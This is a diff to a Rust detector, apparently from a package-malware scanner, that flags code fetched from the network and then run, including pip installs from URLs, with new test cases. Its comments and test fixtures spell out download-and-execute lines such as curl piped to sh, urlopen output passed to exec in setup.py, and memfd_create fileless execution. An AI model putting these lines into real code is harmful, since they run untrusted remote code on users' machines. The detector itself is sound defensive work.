@@ -13,7 +13,11 @@
 //! from a response and run (`job = requests.get(u).json()` then `getoutput(job['cmd'])`: a
 //! remote command loop; also a command read from a socket or WebSocket, `cmd = ws.recv()`); a
 //! shell running a fetch's output by command substitution (`bash -c "$(curl …)"`); an in-memory
-//! file (`memfd_create`) run through `/proc/self/fd` or `fexecve` (fileless execution). Command
+//! file (`memfd_create`) run through `/proc/self/fd` or `fexecve` (fileless execution); a
+//! response body bound to a name that `exec`/`eval` then runs (`code = urlopen(u).read()` …
+//! `exec(code)`, in the same function, at module level or in a class body); `pip install` of a
+//! package given as a URL (an archive or a VCS link, not an index) from code or a command
+//! string: the fetched package's build code runs (High, weighed by place). Command
 //! strings shown to a person (help text, `print`, log lines, judged from where the literal
 //! opens, so a help or epilog text spanning lines too) are not
 //! commands.
@@ -35,7 +39,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.download-and-execute",
-    revision: 5,
+    revision: 6,
     title: "Downloads and executes code.",
     category: Category::Execution,
     severity: Severity::Critical,
@@ -207,6 +211,11 @@ impl Detector for DownloadExecute {
             "decodebytes",
             "fromhex",
             "unhexlify",
+            // `pip install` of a package URL ([`pip_installs_from_url`]).
+            "pip install",
+            "'install'",
+            "\"install\"",
+            "pip.main",
         ])
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
@@ -277,6 +286,9 @@ impl Detector for DownloadExecute {
                 push(hits, name.start(), &format!("{}(fetched)", name.as_str()));
             }
         }
+        if may_call(file.text) {
+            fetched_code_run(file, &mut |off, ind| push(hits, off, &ind));
+        }
         // A download, then within a few lines a process start or chmod/startfile of it.
         // (offset, needs a write in between): response APIs must be written to disk
         // before they can be run; save APIs and command strings save by themselves.
@@ -296,6 +308,8 @@ impl Detector for DownloadExecute {
             .collect();
         let mut runs: Vec<(usize, String)> =
             sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
+        // `pip install <url>`: High, weighed by place (pushed last, after the Critical hits).
+        let pip_urls = pip_installs_from_url(file, &runs);
         runs.extend(
             RUN_SAVED
                 .find_iter(file.text)
@@ -304,6 +318,7 @@ impl Detector for DownloadExecute {
         );
         runs.sort();
         if runs.is_empty() {
+            push_pip(file, hits, &pip_urls, n);
             return;
         }
         // Computed once per file: line starts, function/class starts and writes in code.
@@ -342,7 +357,107 @@ impl Detector for DownloadExecute {
         for off in fileless_runs(file, &runs) {
             push(hits, off, "in-memory executable (memfd_create) run");
         }
+        push_pip(file, hits, &pip_urls, n);
     }
+}
+
+/// `pip install` (a process command or `pip.main([...])`) whose argument holds a package URL
+/// literal: an archive (`.tar.gz`, `.zip`, `.whl`, …) or a VCS link (`git+https://…`), not an
+/// index (`-i`/`--index-url`/`--extra-index-url`/`-f`/`--find-links` take the URL that
+/// follows them). Offsets of the calls, with the URL.
+static PIP_MAIN: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?-u:\b)(?:pip|pip\._internal(?:\.cli\.main)?)\.main\s*\(").expect("pip main"));
+static PACKAGE_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?P<url>(?:(?:git|hg|svn|bzr)\+)?https?://[^\s'"]+?(?:\.tar\.gz|\.tgz|\.tar\.bz2|\.zip|\.whl|\.egg|\.git(?:@[^\s'"]*)?)?)(?:['"\s#]|$)"#)
+        .expect("package url")
+});
+fn pip_installs_from_url(file: &TextFile<'_>, runs: &[(usize, String)]) -> Vec<(usize, String)> {
+    let (src, t) = (file.source(), file.text);
+    if !t.contains("install") || !t.contains("pip") {
+        return Vec::new();
+    }
+    let calls =
+        runs.iter().map(|(o, _)| *o).chain(PIP_MAIN.find_iter(t).map(|m| m.start()).filter(|&o| src.is_code(o)));
+    let mut out = Vec::new();
+    for off in calls {
+        let open = t[off..].find('(').map_or(t.len(), |p| off + p + 1);
+        let arg = pysrc::call_argument(t, open, 600);
+        let Some(i) = arg.find("install") else { continue };
+        if !arg[..i].contains("pip") && !t[off..open].contains("pip") {
+            continue;
+        }
+        for c in PACKAGE_URL.captures_iter(&arg[i..]) {
+            let url = c.name("url").expect("url");
+            let u = url.as_str();
+            let vcs = u.split("://").next().is_some_and(|scheme| scheme.contains('+'));
+            let archive = [".tar.gz", ".tgz", ".tar.bz2", ".zip", ".whl", ".egg"]
+                .iter()
+                .any(|e| u.len() >= e.len() && u[u.len() - e.len()..].eq_ignore_ascii_case(e));
+            // The option right before the URL: an index or a links page is not a package.
+            let before = arg[..i + url.start()].trim_end_matches(|c: char| c.is_whitespace() || "'\",[=".contains(c));
+            let option = before.rsplit(|c: char| c.is_whitespace() || "'\",[".contains(c)).next().unwrap_or("");
+            let index = matches!(option, "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links");
+            if (vcs || archive) && !index {
+                out.push((off, u.to_string()));
+                break;
+            }
+        }
+    }
+    out
+}
+
+/// Reports [`pip_installs_from_url`]'s finds (High, weighed by place) within the file's hit budget.
+fn push_pip(file: &TextFile<'_>, hits: &mut Hits, found: &[(usize, String)], mut n: usize) {
+    for (off, url) in found {
+        if n >= MAX_HITS_PER_FILE {
+            return;
+        }
+        n += 1;
+        let sev = Some(context::cap(file, Severity::High));
+        let host = url.split("://").nth(1).and_then(|r| r.split('/').next()).unwrap_or(url);
+        hits.push(
+            &META,
+            Hit { severity: sev, evidence: pysrc::evidence(file, *off, format!("pip install from a URL ({host})")) },
+        );
+    }
+}
+
+/// Code fetched into a name and run: `exec`/`eval` (or `exec(compile(…))`) whose argument
+/// starts with a name assigned from a network read ([`FETCHED_NAME`]) earlier in the same
+/// function, at module level or in a class body (`code = urlopen(u).read()` … `exec(code)`,
+/// `exec(body.decode())`).
+fn fetched_code_run(file: &TextFile<'_>, push: &mut dyn FnMut(usize, String)) {
+    let (src, t) = (file.source(), file.text);
+    let names = fetched_names(file);
+    if names.is_empty() {
+        return;
+    }
+    for s in sinks::find(src, &[SinkKind::Exec]) {
+        let open = t[s.offset..].find('(').map_or(t.len(), |p| s.offset + p + 1);
+        let arg = pysrc::call_argument(t, open, 400).trim_start();
+        let lead = arg.strip_prefix("compile(").unwrap_or(arg).trim_start();
+        let hit = names.iter().find(|&&(at, v)| {
+            at < s.offset
+                && lead.starts_with(v)
+                && !lead[v.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
+                && enclosing_def(src, at) == enclosing_def(src, s.offset)
+        });
+        if let Some((_, v)) = hit {
+            push(s.offset, format!("{}(fetched {v})", s.name));
+        }
+    }
+}
+
+/// The names [`FETCHED_NAME`] assigns in code, with where each is assigned.
+fn fetched_names<'t>(file: &TextFile<'t>) -> Vec<(usize, &'t str)> {
+    let src = file.source();
+    FETCHED_NAME
+        .captures_iter(file.text)
+        .filter(|c| src.is_code(c.name("f").expect("f").start()))
+        .filter_map(|c| c.name("v"))
+        .filter(|v| src.is_code(v.start()))
+        .map(|v| (v.start(), v.as_str()))
+        .collect()
 }
 
 /// An interpreter or launcher right before a path in a command: `bash <p>`, `['sh', p]`,
@@ -538,13 +653,7 @@ static FETCHED_NAME: LazyLock<Regex> = LazyLock::new(|| {
 fn fetched_command_run(file: &TextFile<'_>, runs: &[(usize, String)], push: &mut dyn FnMut(usize, String)) {
     let src = file.source();
     let t = file.text;
-    let names: Vec<(usize, &str)> = FETCHED_NAME
-        .captures_iter(t)
-        .filter(|c| src.is_code(c.name("f").expect("f").start()))
-        .filter_map(|c| c.name("v"))
-        .filter(|v| src.is_code(v.start()))
-        .map(|v| (v.start(), v.as_str()))
-        .collect();
+    let names = fetched_names(file);
     if names.is_empty() {
         return;
     }
@@ -754,6 +863,54 @@ mod tests {
                 ("remote command then run", "pkg/a.py", Runtime, "cmd = 'curl -o /tmp/x https://example.org/x'\nos.system(cmd)\n", Some((2, "download then os.system", Critical))),
                 ("fetch and process far apart", "pkg/a.py", Runtime, FAR.as_str(), None),
                 ("json api then eval-free", "pkg/a.py", Runtime, "r = requests.get(u)\ndata = r.json()\n", None),
+                (
+                    "fetched code run from a class body",
+                    "pkg/config.py",
+                    Runtime,
+                    "import urllib.request\nclass Settings:\n    remote = urllib.request.urlopen('http://example.org/s.py').read()\n    exec(remote)\n",
+                    Some((4, "exec(fetched remote)", Critical)),
+                ),
+                (
+                    "fetched code decoded then run in a function",
+                    "pkg/a.py",
+                    Runtime,
+                    "def boot():\n    body = requests.get(U).content\n    exec(body.decode('utf-8'))\n",
+                    Some((3, "exec(fetched body)", Critical)),
+                ),
+                (
+                    "fetched into compile then exec at install",
+                    "setup.py",
+                    InstallTime,
+                    "code = urlopen(U).read()\nexec(compile(code, '<x>', 'exec'))\n",
+                    Some((2, "exec(fetched code)", Critical)),
+                ),
+                (
+                    "fetched name in one function, exec of the same name in another",
+                    "pkg/a.py",
+                    Runtime,
+                    "def a():\n    code = requests.get(U).text\n    return code\ndef b(code):\n    exec(code)\n",
+                    None,
+                ),
+                ("fetched json, exec of a local file", "pkg/a.py", Runtime, "meta = requests.get(U).json()\nexec(open('v.py').read())\n", None),
+                (
+                    "pip install of an archive URL on import",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://files.example.org/d/helperx-1.0.tar.gz'])\n",
+                    Some((2, "pip install from a URL (files.example.org)", High)),
+                ),
+                (
+                    "pip install of a VCS link in a setup.py command string",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nos.system('pip install git+https://example.org/org/tool.git@main')\n",
+                    Some((2, "pip install from a URL (example.org)", High)),
+                ),
+                ("pip.main with a wheel URL", "pkg/a.py", Runtime, "import pip\npip.main(['install', 'https://example.org/x-1.0-py3-none-any.whl'])\n", Some((2, "pip install from a URL (example.org)", High))),
+                ("pip install from an index URL", "pkg/a.py", Runtime, "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch', '--index-url', 'https://download.example.org/whl/cu118'])\n", None),
+                ("pip install of names", "pkg/a.py", Runtime, "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests>=2', 'rich'])\n", None),
+                ("pip install with find-links", "pkg/a.py", Runtime, "os.system('pip install -f https://example.org/wheels/x.zip pkg')\n", None),
+                ("pip install URL shown to a person", "pkg/cli.py", Runtime, "print('run: pip install https://example.org/x-1.0.tar.gz')\n", None),
                 ("one-liner in docstring", "pkg/a.py", Runtime, "\"\"\"Install: curl https://x | sh\"\"\"\n", None),
                 ("exec of local version file", "setup.py", InstallTime, "exec(open('pkg/version.py').read())\n", None),
                 ("fetch name in a string then process", "pkg/a.py", Runtime, "code = \x27import urllib.request; urllib.request.urlopen(u)\x27\nsubprocess.Popen([sys.executable, \x27-c\x27, code])\n", None),
